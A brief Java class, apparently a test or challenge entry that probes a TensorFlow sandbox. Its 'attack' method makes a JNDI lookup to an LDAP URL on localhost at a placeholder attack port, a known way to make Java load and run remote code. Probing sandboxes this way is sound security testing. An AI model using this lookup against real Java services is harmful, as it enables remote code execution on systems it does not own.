import javax.naming.InitialContext;
import org.tensorflow.op.Ops;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) throws Throwable {
        new InitialContext().lookup("ldap://127.0.0.1:ATTACK_PORT/cn=code");
    }
}
